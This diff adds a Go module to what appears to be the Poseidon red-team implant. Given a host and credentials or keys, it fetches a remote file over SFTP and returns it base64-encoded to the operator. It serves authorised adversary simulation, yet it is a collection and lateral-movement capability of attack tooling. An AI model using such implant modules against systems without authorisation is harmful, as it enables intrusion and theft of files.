@@ -0,0 +1,103 @@
+package sshget
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"log"
+
+	"github.com/pkg/sftp"
+	"github.com/xorrior/poseidon/pkg/commands/sshauth"
+	"github.com/xorrior/poseidon/pkg/utils/structs"
+)
+
+// SSHGetParams holds the target, credential and remote file path for an
+// sshget task
+type SSHGetParams struct {
+	Host        string `json:"host"`
+	Port        int    `json:"port"`
+	Username    string `json:"username"`
+	Password    string `json:"password"`
+	PrivateKey  string `json:"private_key"`
+	Passphrase  string `json:"passphrase"`
+	AgentSocket string `json:"agent_socket"`
+	RemotePath  string `json:"remote_path"`
+
+	KnownHosts      string `json:"known_hosts"`
+	HostFingerprint string `json:"host_fingerprint"`
+}
+
+//Run - interface method that retrieves a file from a remote host over SFTP
+func Run(task structs.Task, threadChannel chan<- structs.ThreadMsg) {
+	tMsg := structs.ThreadMsg{}
+	params := SSHGetParams{}
+	tMsg.TaskItem = task
+
+	err := json.Unmarshal([]byte(task.Params), &params)
+	if err != nil {
+		log.Println("Error unmarshalling params:", err.Error())
+		tMsg.TaskResult = []byte(err.Error())
+		tMsg.Error = true
+		threadChannel <- tMsg
+		return
+	}
+
+	if params.Host == "" || params.RemotePath == "" {
+		tMsg.TaskResult = []byte("Error: Host and remote_path are both required.")
+		tMsg.Error = true
+		threadChannel <- tMsg
+		return
+	}
+
+	if params.Port == 0 {
+		params.Port = 22
+	}
+
+	cred := sshauth.Credential{
+		Username:    params.Username,
+		Password:    params.Password,
+		PrivateKey:  params.PrivateKey,
+		Passphrase:  params.Passphrase,
+		AgentSocket: params.AgentSocket,
+	}
+
+	connection, _, err := sshauth.DialClient(params.Host, params.Port, cred, params.KnownHosts, params.HostFingerprint)
+	if err != nil {
+		tMsg.TaskResult = []byte(fmt.Sprintf("Error: Failed to connect to %s: %s", params.Host, err.Error()))
+		tMsg.Error = true
+		threadChannel <- tMsg
+		return
+	}
+	defer connection.Close()
+
+	client, err := sftp.NewClient(connection)
+	if err != nil {
+		tMsg.TaskResult = []byte(fmt.Sprintf("Error: Failed to start SFTP session: %s", err.Error()))
+		tMsg.Error = true
+		threadChannel <- tMsg
+		return
+	}
+	defer client.Close()
+
+	remoteFile, err := client.Open(params.RemotePath)
+	if err != nil {
+		tMsg.TaskResult = []byte(fmt.Sprintf("Error: Failed to open %s: %s", params.RemotePath, err.Error()))
+		tMsg.Error = true
+		threadChannel <- tMsg
+		return
+	}
+	defer remoteFile.Close()
+
+	data, err := ioutil.ReadAll(remoteFile)
+	if err != nil {
+		tMsg.TaskResult = []byte(fmt.Sprintf("Error: Failed to read %s: %s", params.RemotePath, err.Error()))
+		tMsg.Error = true
+		threadChannel <- tMsg
+		return
+	}
+
+	tMsg.TaskResult = []byte(base64.StdEncoding.EncodeToString(data))
+	tMsg.Error = false
+	threadChannel <- tMsg
+}